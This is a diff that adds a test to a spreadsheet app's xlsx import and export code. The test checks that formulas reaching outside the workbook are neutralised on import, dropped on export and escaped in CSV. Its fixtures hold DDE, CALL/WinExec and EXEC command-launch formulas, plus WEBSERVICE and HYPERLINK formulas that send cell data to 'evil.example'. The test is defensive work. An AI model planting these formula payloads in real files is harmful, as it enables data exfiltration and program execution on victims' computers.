@@ -1,9 +1,12 @@
 import { deflateRawSync } from 'node:zlib'
 import ExcelJS from 'exceljs'
-import { findSheetByName, getSheetGrid, listSheets, openWorkbook } from '@samplan/domain'
+import { findSheetByName, formulaFromA1, getCellInput, getCellNote, getSheetGrid, isFormula, listSheets, openWorkbook, setCells } from '@samplan/domain'
 import { createWorkbookMirror } from '@samplan/formulas'
 import { describe, expect, it } from 'vitest'
 import * as Y from 'yjs'
+import { exportSheetCsv } from './csv-export'
+import { findUnsafeFormula } from './formula-safety'
+import { buildSheetTable } from './sheet-table'
 import { exportWorkbookXlsx } from './xlsx-export'
 import { applyXlsxImport, readXlsx } from './xlsx-import'
 import { createFilledVp2024Workbook } from './test-support'
@@ -150,5 +153,87 @@ describe('xlsx import', () => {
     })
     const limits = { maxFileBytes: 1e7, maxUncompressedBytes: 40e6, maxEntries: 100, maxRatio: 200, maxSheets: 5, maxRows: 1000, maxColumns: 100, maxCells: 100 }
     expect(await readXlsx(many, limits)).toMatchObject({ ok: false, error: { code: 'too-many-cells' } })
+  })
+
+  it('neutralises formulas that reach outside the workbook: cached value or inert text, a Swedish note, never a formula', async () => {
+    const hostile: Array<[string, string, ExcelJS.CellFormulaValue['result'] | undefined]> = [
+      ['A1', '[1]Budget!C2', 19494.6],
+      ['A2', "'C:\\Users\\eva\\[Budget.xlsx]Blad1'!A1", 'Kostnader'],
+      ['A3', "'file:///C:/data/b.ods'#$Blad1.A1", undefined],
+      ['A4', "cmd|' /C calc'!A0", undefined],
+      ['A5', "SUM(1+1)*cmd|' /C calc'!A0", 0],
+      ['A6', 'HYPERLINK("http://evil.example/?"&B1,"Klicka här")', 'Klicka här'],
+      ['A7', '_xlfn.WEBSERVICE("http://evil.example/?d="&_xlfn.ENCODEURL(B1))', undefined],
+      ['A8', '_xlfn.FILTERXML(B1,"//a")', undefined],
+      ['A9', 'RTD("evil.progid",,"topic")', 42],
+      ['A10', 'CALL("Kernel32","WinExec","JCJ","calc",0)', undefined],
+      ['A11', 'REGISTER.ID("user32","MessageBoxA")', undefined],
+      ['A12', 'EXEC("calc.exe")', undefined],
+    ]
+    const file = await xlsxOf((book) => {
+      const ws = book.addWorksheet('Farligt')
+      for (const [address, formula, result] of hostile) ws.getCell(address).value = result === undefined ? { formula } : { formula, result }
+      ws.getCell('B1').value = 'hemligt'
+      ws.getCell('B2').value = { formula: 'SUM(1,2)', result: 3 }
+      ws.getCell('B3').value = "=cmd|' /C calc'!A0"
+    })
+    const read = await readXlsx(file)
+    if (!read.ok) throw new Error(read.error.message)
+    const sheet = read.sheets[0]!
+    expect(sheet.neutralised.map((n) => n.cell)).toEqual(hostile.map(([address]) => address))
+
+    const workbook = openWorkbook(new Y.Doc())
+    workbook.doc.transact(() => applyXlsxImport(workbook, read.sheets))
+    const info = findSheetByName(workbook, 'Farligt')!
+    const grid = getSheetGrid(workbook, info.id)
+    const at = (address: string) => {
+      const [, col, row] = /^([A-Z]+)(\d+)$/.exec(address)!
+      return { rowId: grid.rowIds[Number(row) - 1]!, colId: grid.colIds[col!.charCodeAt(0) - 65]! }
+    }
+    const input = (address: string) => getCellInput(workbook, info.id, at(address).rowId, at(address).colId)
+    const note = (address: string) => getCellNote(workbook, info.id, at(address).rowId, at(address).colId)
+    for (const [address] of hostile) expect(isFormula(input(address)), address).toBe(false)
+    expect(input('A1')).toBe(19494.6)
+    expect(input('A2')).toBe('Kostnader')
+    expect(input('A3')).toBe("'file:///C:/data/b.ods'#$Blad1.A1")
+    expect(input('A4')).toBe("cmd|' /C calc'!A0")
+    expect(input('A6')).toBe('Klicka här')
+    expect(input('A9')).toBe(42)
+    expect(note('A1')).toBe(
+      'Formeln =[1]Budget!C2 togs bort vid importen eftersom den hämtar värden från en annan arbetsbok eller fil (extern länk). Cellen har värdet som fanns sparat i filen.',
+    )
+    expect(note('A4')).toBe(
+      "Formeln =cmd|' /C calc'!A0 togs bort vid importen eftersom den startar ett annat program (DDE). Filen hade inget sparat värde, så formeln är sparad som text.",
+    )
+    expect(note('A6')).toContain('funktionen HYPERLINK skapar en länk')
+    expect(note('A7')).toContain('funktionen WEBSERVICE kan hämta data från eller skicka data till internet')
+    expect(note('A10')).toContain('funktionen CALL kan starta program')
+    // The harmless formula stays a formula, and plain text that looks like one stays text.
+    expect(isFormula(input('B2'))).toBe(true)
+    expect(note('B2')).toBeUndefined()
+    expect(isFormula(input('B3'))).toBe(false)
+
+    // A colleague types a HYPERLINK formula afterwards: the export writes its value, never the formula.
+    setCells(workbook, info.id, [{ ...at('B4'), input: formulaFromA1(workbook, info.id, '=HYPERLINK("http://evil.example","Klicka")') }])
+    const mirror = createWorkbookMirror(workbook)
+    const { buffer, fallbacks } = await exportWorkbookXlsx(workbook, mirror)
+    expect(fallbacks).toEqual([expect.objectContaining({ cell: 'B4', reason: 'HYPERLINK' })])
+    const exported = new ExcelJS.Workbook()
+    await exported.xlsx.load(buffer as unknown as ArrayBuffer)
+    const written: string[] = []
+    exported.getWorksheet('Farligt')!.eachRow((row) =>
+      row.eachCell((cell) => {
+        if (cell.type === ExcelJS.ValueType.Formula) written.push(cell.formula)
+      }),
+    )
+    expect(written).toEqual(['SUM(1,2)'])
+    expect(written.every((f) => findUnsafeFormula(f) === null)).toBe(true)
+    expect(exported.getWorksheet('Farligt')!.getCell('B4').note).toMatch(/^Formeln =HYPERLINK\(.*skrevs inte ut som formel/)
+
+    // csv: every field a spreadsheet would run (= + - @) starts with an apostrophe.
+    const csv = exportSheetCsv(buildSheetTable(workbook, mirror, info.id), 'rfc4180')
+    expect(csv).toContain(`,'=cmd|' /C calc'!A0\r\n`)
+    for (const line of csv.split('\r\n')) for (const field of line.split(',')) expect(field, line).not.toMatch(/^"?[=+\-@]/)
+    mirror.destroy()
   })
 })
